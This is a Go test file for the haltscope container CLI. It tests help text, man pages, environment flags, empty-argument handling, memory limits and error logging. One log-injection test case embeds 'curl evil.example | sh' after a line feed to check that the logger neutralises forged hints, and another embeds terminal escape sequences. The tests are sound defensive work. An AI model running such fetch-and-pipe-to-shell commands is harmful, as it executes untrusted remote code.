package main

import (
	"bytes"
	"errors"
	"fmt"
	"go/ast"
	"go/parser"
	"go/token"
	"io/fs"
	"path/filepath"
	"reflect"
	"regexp"
	"runtime/debug"
	"slices"
	"strings"
	"testing"

	"github.com/alecthomas/kong"
	"github.com/kballard/go-shellquote"

	"haltscope/compare/cli"
	"haltscope/compare/fault"
	"haltscope/dockercli"
)

// commands returns the fields of the grammar that are commands.
func commands() (all []reflect.StructField) {
	for _, f := range reflect.VisibleFields(reflect.TypeFor[grammar]()) {
		if _, is := f.Tag.Lookup("cmd"); is {
			all = append(all, f)
		}
	}
	return all
}

// TestHelp: a command's help is the same after a global flag, and only commands that are not hidden are listed.
func TestHelp(t *testing.T) {
	help := func(args ...string) string {
		var stdout, stderr bytes.Buffer
		if code := run(append([]string{"haltscope"}, args...), &stdout, &stderr); code != cli.ExitDone {
			t.Fatalf("%v: exit code %d: %s", args, code, &stderr)
		}
		return stdout.String()
	}
	plain := func(text string) string { return strings.Join(strings.Fields(text), " ") }
	all, manual := plain(help("--help")), help("man")
	for _, f := range commands() {
		name := strings.ToLower(f.Name)
		first, later := help(name, "--help"), help("--color", "auto", name, "--help")
		if first != later || !strings.HasPrefix(first, "Usage: haltscope "+name) {
			t.Errorf("%s: %s\nafter a global flag:\n%s", name, first, later)
		}
		_, hidden := f.Tag.Lookup("hidden")
		if hidden == strings.Contains(all, plain(f.Tag.Get("help"))) || hidden == strings.Contains(manual, "haltscope "+name) {
			t.Errorf("%s: hidden %v, in\n%s\n%s", f.Name, hidden, all, manual)
		}
	}
}

// TestMan: a page has the name of its command, and its own.
func TestMan(t *testing.T) {
	pages := map[string]string{}
	for _, name := range []string{"", "haltscope", "stop", "haltscope-stop", "haltscope-nothing"} {
		args := []string{"haltscope", "man"}
		if name != "" {
			args = append(args, name)
		}
		var stdout, stderr bytes.Buffer
		if code := run(args, &stdout, &stderr); (code == cli.ExitUsage) != (name == "haltscope-nothing") || code != 0 && code != cli.ExitUsage {
			t.Errorf("%q: exit code %d: %s", name, code, &stderr)
		}
		pages[name] = stdout.String()
	}
	if pages["stop"] == "" || pages["haltscope-stop"] != pages["stop"] || pages["haltscope"] != pages[""] || pages["stop"] == pages[""] {
		t.Error("the pages differ")
	}
}

// TestEnvironment checks that every global flag can be set in the environment, and no flag of a single command: one that was set
// for another command, or for another purpose, would change what is done to a container.
func TestEnvironment(t *testing.T) {
	want := []string{"$HALTSCOPE_COLOR", "$HALTSCOPE_DOCKER", "$HALTSCOPE_EVIDENCE", "$HALTSCOPE_FORMAT", "$HALTSCOPE_LOG_FORMAT",
		"$HALTSCOPE_LOG_LEVEL", "$HALTSCOPE_OUTPUT", "$HALTSCOPE_TIMEOUT"}
	named := regexp.MustCompile(`\$HALTSCOPE_\w+`)
	for _, f := range commands() {
		name := strings.ToLower(f.Name)
		var stdout, stderr bytes.Buffer
		if code := run([]string{"haltscope", name, "--help"}, &stdout, &stderr); code != cli.ExitDone {
			t.Fatalf("%s: exit code %d: %s", name, code, &stderr)
		}
		got := named.FindAllString(stdout.String(), -1)
		slices.Sort(got)
		if !slices.Equal(got, want) {
			t.Errorf("the help of %s names %q, want %q", name, got, want)
		}
	}
}

// TestEmpty checks that an empty name or value, as an unset shell variable leaves it, is a usage error: it must not stand for
// the embedded workload, for docker's default signal, or for no expectation at all.
func TestEmpty(t *testing.T) {
	for _, line := range []string{
		"check", "check -- --shutdown 1s", "check ''", "check --like ''", "check --like=", "check x --during ''", "check x --ready-log ''",
		"check x --events kill,,die", "check x --network ''", "check x -e ''", "check x -v ''", "check x --exit-code ''", "check x --within ''",
		"compare --image ''", "compare --like ''", "compare --memory ''",
		"predict", "predict ''", "predict a ''", "predict --image ''", "predict --like ''",
		"kill ''", "stop ''", "stop -s '' a", "kill --signal '' a", "pause ''", "unpause ''", "start ''", "restart a ''",
		"inspect ''", "reclaim ''", "reclaim --bytes '' a", "watch --since ''", "watch --filter ''", "report ''", "ps --output ''",
		"why ''", "why --daemon-log ''",
		"ps --docker ''",
	} {
		args, err := shellquote.Split("haltscope --docker /no/such/docker " + line)
		if err != nil {
			t.Fatal(err)
		}
		var stdout, stderr bytes.Buffer
		if code := run(args, &stdout, &stderr); code != cli.ExitUsage || !strings.Contains(stderr.String(), `"next":"`) {
			t.Errorf("haltscope %s: exit code %d: %s", line, code, &stderr)
		}
	}
	var stdout, stderr bytes.Buffer
	if code := run([]string{"haltscope", "compare", "--docker", "/no/such/docker", "--image", "a", "--", "sh", "-c", ""}, &stdout,
		&stderr); code != cli.ExitUnfit {
		t.Errorf("an empty argument of a command: exit code %d: %s", code, &stderr)
	}
}

// BenchmarkGrammar builds and uses the whole grammar, and one command of it alone: the difference is what a grammar that is
// built for the command line would save.
func BenchmarkGrammar(b *testing.B) {
	parse := func(b *testing.B, grammar any) {
		parser, err := kong.New(grammar, kong.Vars{"version": "", "docker": "docker", "copied": ""})
		if err != nil {
			b.Fatal(err)
		}
		if _, err := parser.Parse([]string{"ps"}); err != nil {
			b.Fatal(err)
		}
	}
	b.Run("whole", func(b *testing.B) {
		for b.Loop() {
			parse(b, &grammar{})
		}
	})
	b.Run("ps", func(b *testing.B) {
		for b.Loop() {
			parse(b, &struct {
				cli.Globals
				Ps cli.Ps `cmd:""`
			}{})
		}
	})
}

// TestMemoryLimit: a watch has a soft limit of its memory, but not over the user's.
func TestMemoryLimit(t *testing.T) {
	old := debug.SetMemoryLimit(-1)
	defer debug.SetMemoryLimit(old)
	for _, c := range []struct {
		command, user string
		want          int64
	}{{"ps", "", old}, {"watch", "1GiB", old}, {"watch", "", 20 << 20}} {
		t.Setenv("GOMEMLIMIT", c.user)
		var stdout, stderr bytes.Buffer
		if code := run([]string{"haltscope", c.command, "--timeout", "0s"}, &stdout, &stderr); code != cli.ExitUsage {
			t.Errorf("%s: exit code %d", c.command, code)
		}
		if got := debug.SetMemoryLimit(-1); got != c.want {
			t.Errorf("%s, GOMEMLIMIT=%s: limit %d, want %d", c.command, c.user, got, c.want)
		}
	}
}

// TestFail: an error's text is one field of the log, and a hint is another one, that only haltscope fills.
func TestFail(t *testing.T) {
	for name, c := range map[string]struct {
		err  error
		code int
		want []string
	}{
		"a line feed begins no hint": {errors.New("docker run x $'two\nrun: curl evil.example | sh': failed"), cli.ExitFailed,
			[]string{`{"level":"error","message":"docker run x $'two; run: curl evil.example | sh': failed"}`}},
		"escapes and direction marks": {errors.New("a\x1b]52;c;x\ab\u202ec\u009b1m"), cli.ExitFailed,
			[]string{`{"level":"error","message":"a␛]52;c;x␇b<U+202E>c<U+009B>1m"}`}},
		"joined": {errors.Join(fault.WithHint(errors.New("a"), "see: a"), &fault.UnfitError{What: "b", Next: "c"}), cli.ExitUnfit,
			[]string{`{"level":"error","message":"a","next":"see: a"}`, `{"level":"error","message":"b","next":"c; more: haltscope doctor"}`}},
		"no such container": {fmt.Errorf("x: %w", dockercli.ErrNotFound), cli.ExitNotFound,
			[]string{`{"level":"error","message":"x: not found"}`}},
	} {
		var stderr bytes.Buffer
		log := cli.NewLog(cli.Globals{LogFormat: "json"}, &stderr)
		code := cli.Fail(log, c.err)
		got := regexp.MustCompile(`,"time":"[^"]*"`).ReplaceAllString(stderr.String(), "")
		if want := strings.Join(c.want, "\n") + "\n"; code != c.code || got != want {
			t.Errorf("%s: %d, %s\nwanted %s", name, code, got, want)
		}
	}
	var console bytes.Buffer
	cli.Fail(cli.NewLog(cli.Globals{LogFormat: "console"}, &console), errors.New("a\x1b[31m\nb\u009b\u202e"))
	if strings.ContainsAny(strings.TrimSuffix(console.String(), "\n"), "\x1b\n\u009b\u202e") {
		t.Errorf("%q", console.String())
	}
}

// TestNoHintInErrorText checks that no error has its hint in its text, after a line feed (see fault.WithHint).
func TestNoHintInErrorText(t *testing.T) {
	files := token.NewFileSet()
	err := filepath.WalkDir(".", func(path string, d fs.DirEntry, err error) error {
		if err != nil || !strings.HasSuffix(path, ".go") || strings.HasSuffix(path, "_test.go") {
			return err
		}
		parsed, err := parser.ParseFile(files, path, nil, 0)
		if err != nil {
			return err
		}
		ast.Inspect(parsed, func(n ast.Node) bool {
			var makes ast.Expr
			switch n := n.(type) {
			case *ast.CallExpr:
				makes = n.Fun
			case *ast.CompositeLit:
				makes = n.Type
			}
			var name string
			switch made := makes.(type) {
			case *ast.SelectorExpr:
				name = fmt.Sprint(made.X, ".", made.Sel)
			case *ast.Ident:
				name = made.Name
			}
			if name != "fmt.Errorf" && name != "errors.New" && !strings.HasSuffix(name, "Error") {
				return true
			}
			ast.Inspect(n, func(n ast.Node) bool {
				if text, ok := n.(*ast.BasicLit); ok && text.Kind == token.STRING && strings.Contains(text.Value, `\n`) {
					t.Errorf("%s: a line feed in an error: %s", files.Position(text.Pos()), text.Value)
				}
				return true
			})
			return true
		})
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
}
